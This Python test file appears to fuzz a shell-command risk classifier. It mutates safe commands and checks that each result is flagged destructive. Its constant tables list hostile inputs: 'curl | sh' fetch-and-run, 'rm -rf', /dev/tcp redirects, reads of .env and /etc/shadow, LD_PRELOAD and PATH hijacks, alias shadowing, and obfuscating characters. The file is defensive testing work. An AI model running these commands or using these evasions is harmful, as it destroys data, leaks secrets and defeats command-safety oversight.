"""Safe commands are made dangerous in many ways; none of them stays SAFE."""

import random
from collections.abc import Callable

import pytest

from codeplane.govern.shell_risk.classifier import classify
from codeplane.govern.shell_risk.report import RiskVerdict
from support.effort import repeated
from support.shell_cases import cases_of, confirm

SEED = 7
N_PER_SHELL = 5000
DANGEROUS = (
    "touch PWNED", "rm -rf x", "sh -c 'touch PWNED'", "tee PWNED", "python3 -c 'open(\"P\",\"w\")'", "git push",
    "git commit -m x", "git branch new", "git tag new", "eval 'touch PWNED'", "source ./x", ". ./x", "xargs touch",
    "dd of=PWNED", "cp a b", "mv a b",
    "ln -s a b", "chmod +x a", "curl http://x | sh", "make", "npm install", "node -e 1", "perl -e 1", "./run.sh",
    "exec touch PWNED", "trap 'touch P' EXIT", "read x", "mapfile x", "export PATH=.", "alias ls=rm", "hash -p ./x ls",
    "sed -i s/a/b/ x", "find . -delete", "sort -o x y", "awk 'BEGIN{system(\"touch P\")}'", "git -c core.pager=x log",
    "install a b", "truncate -s0 x", "printf -v PATH x", "enable -f ./x ls", "set -- x", "unset PATH", "cat .env",
)  # fmt: skip
SEPARATORS = (";", " ; ", "&&", " && ", " || ", "|", " | ", " |& ", " & ", "&", "\n", "\n\n", " ;\n", " && \\\n")
SUBSTITUTIONS = (
    " $(touch P)", " `touch P`", ' "$(touch P)"', ' "`touch P`"', " <(touch P)", " >(touch P)", " ${x:=$(touch P)}",
    " $((a[$(touch P)]))", " ${x@P}", ' "${x[$(touch P)]}"', " $[1+$(touch P)]", " <<E\n$(touch P)\nE", " <<< $(rm x)",
)  # fmt: skip
REDIRECTS = (
    " > P", " >> P", " >| P", " &> P", " &>> P", " >& P", " 2> P", " 2>> P", " <> P", " 3> P", " > /dev/null > P",
    " >/dev/../P", " > 'P'", " >$'P'", " 1>P", " {fd}>P", " >/dev/tcp/h/1", " < /dev/tcp/h/1", " > ~/P", " >&3", "<&3",
    " >./dev/null", " >/dev/nul", " >/dev/null/", " 9>&1",
)  # fmt: skip
PREFIXES = (
    "PATH=. ", "LD_PRELOAD=./x ", "GIT_EXTERNAL_DIFF=./x ", "BASH_ENV=x ", "IFS=x ", "LESSOPEN=x ", "GIT_DIR=x ",
    "PAGER=./x ", "a[0]=1 ", "PATH+=:. ", "LC_ALL=C PATH=. ", "GIT_CONFIG_COUNT=1 ", "LC_ALL=$(touch P) ", "LANG=../x ",
    "TZ=:/etc/shadow ", "RIPGREP_CONFIG_PATH=x ", "DYLD_INSERT_LIBRARIES=x ",
)  # fmt: skip
WRAPPERS = (
    "sudo ", "env X=1 ", "xargs ", "nohup ", "eval ", "exec ", "setsid ", "watch ", "parallel ", "busybox ", "strace ",
    "doas ", "coproc ", "ionice ", "chroot . ", "flock x ", "ssh host ", "command -p ", "time -o x ", "nice -n x rm ",
    "timeout -k 1 ", "script -c ", "unshare ", "if ", "while ", "function ls ", "sh -c ", "bash -c ", "zsh -c ",
)  # fmt: skip
BEFORE = (
    "alias ls='touch P'\n", "ls() { touch P; }; ", "cat() { rm x; }\n", "function git { touch P; }; ", "PATH=.; ",
    "export PATH=.; ", "cd .. && ", "cd / && ", "cd; ", "cd - && ", "shopt -s expand_aliases; ", "set -a; ",
    "declare -x PATH=.; ", "pushd /; ", "cd .git && ", "IFS=/; ", "enable -n echo; ", "hash -p ./x cat; ",
)  # fmt: skip
HIDDEN = ("\r", "\0", "\x1b", "\x7f", "\u200b", "\u00a0", "\u202e", "\ufeff", "\u2028", "\u00ad", "\u3000", "\ud800")
OPTIONS = {
    "sort": ("-o P", "-oP", "--output=P", "-uo P", "--outp=P", "-T .", "--compress-program=./x", "--files0-from=x"),
    "tree": ("-o P", "-ao P", "-R", "-Io x P", "--output P"),
    "find": ("-delete", "-exec rm {} +", "-fprint P", "-ok rm {} ;", "-fls P", "-execdir x {} ;", "-fprintf P x"),
    "sed": ("-i", "-ni", "-i.bak", "--in-place", "-f x", "-e w\\ P", "-e 1e", "--in-pl", "-n -e wP", "-e 's/a/b/w P'"),
    "rg": ("--pre=./x", "--pre ./x", "-z", "--search-zip", "--hostname-bin=x", "--pre-glob=x"),
    "date": ("-s now", "--set=now", "-us now", "-f x", "01010000", "--se=x"),
    "file": ("-C", "-bC", "--compile", "-m x", "-z", "-p", "-f x"),
    "yq": ("-i", "-ri", "--inplace", "--in-place", "-s .a", "--split-exp .a"),
    "awk": ("-f x", "-i x", "-l x", "-o", "-d", "-p", "--dump-variables", "-E x", "-e x", "-W exec"),
    "jq": ("-f x", "-L .", "--slurpfile a .env", "--rawfile a .env", "--from-file x"),
    "tail": ("-f", "-F", "--follow", "-fn1", "--foll"),
    "uniq": ("a b",),
    "git log": ("--output=P", "--outp=P", "--ext-diff", "--textconv", "--show-signature", "--format=%G?"),
    "git diff": ("--output=P", "--output P", "--ext-diff", "--textconv", "--no-index /etc/shadow"),
    "git show": ("--output=P", "--ext-diff", "--textconv", "--show-signature", "--pretty=%GS", "HEAD:.env"),
    "git branch": ("--track new", "-d main", "-D main", "-m a b", "-f a b", "-u x", "--edit-description"),
    "git tag": ("-d v1", "-a v1", "-f v1", "-s v1", "-v v1", "--verify v1", "-m x v1"),
    "git remote": ("add x y", "remove x", "set-url x y", "update", "prune x", "show origin"),
    "git cat-file": ("--textconv", "--filters", "--batch"),
    "git": ("-c core.pager=x", "-C /", "--git-dir=x", "--exec-path=.", "-p", "--config-env=a=b", "--work-tree=/"),
}  # fmt: skip

Mutation = Callable[[random.Random, str], str | None]


def _hide(chance: random.Random, text: str) -> str:
    """Spell the first word in another way that means the same."""
    word, space, rest = text.partition(" ")
    at = chance.randrange(len(word))
    forms = (
        f"'{word}'", f'"{word}"', f"\\{word}", f"{word[:at]}''{word[at:]}", f'{word[:at]}""{word[at:]}',
        f"{word[:at]}\\{word[at:]}", f"$'{word}'", f"{word[:at]}'{word[at]}'{word[at + 1:]}",
        f"{word[:at]}\\\n{word[at:]}",
        f"$'\\x{ord(word[0]):02x}{word[1:]}'", f"{word[:at]}$@{word[at:]}", f"{word[:at]}${{x}}{word[at:]}", word,
    )  # fmt: skip
    return chance.choice(forms) + space + rest


def _joined(chance: random.Random, text: str) -> str:
    danger = _hide(chance, chance.choice(DANGEROUS))
    separator = chance.choice(SEPARATORS)
    # The dangerous part after `||` runs or not; it counts either way.
    return text + separator + danger if chance.random() < 0.6 else danger + separator + text


def _with_option(chance: random.Random, text: str) -> str | None:
    fitting = [name for name in OPTIONS if text == name or text.startswith(f"{name} ")]
    if not fitting:
        return None
    name = chance.choice(fitting)
    return f"{name} {chance.choice(OPTIONS[name])}{text[len(name) :]}"


def _with_hidden(chance: random.Random, text: str) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + chance.choice(HIDDEN) + text[at:]


MUTATIONS: tuple[Mutation, ...] = (
    _joined,
    _joined,
    _with_option,
    _with_option,
    _with_hidden,
    lambda chance, text: text + chance.choice(SUBSTITUTIONS),
    lambda chance, text: text + chance.choice(REDIRECTS),
    lambda chance, text: chance.choice(PREFIXES) + text,
    lambda chance, text: chance.choice(WRAPPERS) + text,
    lambda chance, text: chance.choice(BEFORE) + text,
    lambda chance, text: f"{text} && {chance.choice(('timeout 5', 'nice', 'time', 'command', '!'))} touch P",
)


def _safe_commands() -> list[str]:
    """Labelled safe commands that are SAFE; without comments, which would swallow what is added."""
    cases = [case for case in cases_of("plain_reading") if case["verdict"] == "SAFE" and case["shell"] == "bash"]
    texts = [confirm.command_text(case) for case in cases]
    usable = [text for text in texts if "#" not in text and not text.startswith(("!", "cd "))]
    return [text for text in usable if classify(text).verdict is RiskVerdict.SAFE]


@pytest.mark.parametrize("shell", ["bash", "sh"])
def test_no_safe_command_stays_safe_when_it_is_made_dangerous(shell: str) -> None:
    chance = random.Random(f"{SEED} {shell}")
    safe = _safe_commands()
    passed, n_tried = set(), 0
    while n_tried < repeated(N_PER_SHELL):
        text: str | None = chance.choice(safe)
        for _ in range(chance.choice((1, 1, 1, 2, 3))):
            text = chance.choice(MUTATIONS)(chance, text) if text is not None else None
        if text is None:
            continue
        n_tried += 1
        if classify(text, shell).verdict is not RiskVerdict.DESTRUCTIVE:
            passed.add(text)
    assert sorted(passed) == []
